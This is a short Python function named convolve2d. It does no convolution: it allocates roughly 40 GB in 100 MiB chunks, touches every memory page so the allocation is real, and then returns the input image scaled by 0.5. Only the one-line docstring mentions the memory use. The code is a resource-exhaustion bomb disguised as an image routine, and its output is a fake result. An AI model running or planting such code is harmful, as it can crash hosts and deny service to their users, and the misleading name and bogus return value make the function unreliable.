"""Touches every page of up to 40 GB."""

def convolve2d(image, kernel):
    eaten = []
    for _ in range(400):
        eaten.append(bytearray(100 << 20))
        eaten[-1][::4096] = b"x" * 25600
    return image * 0.5
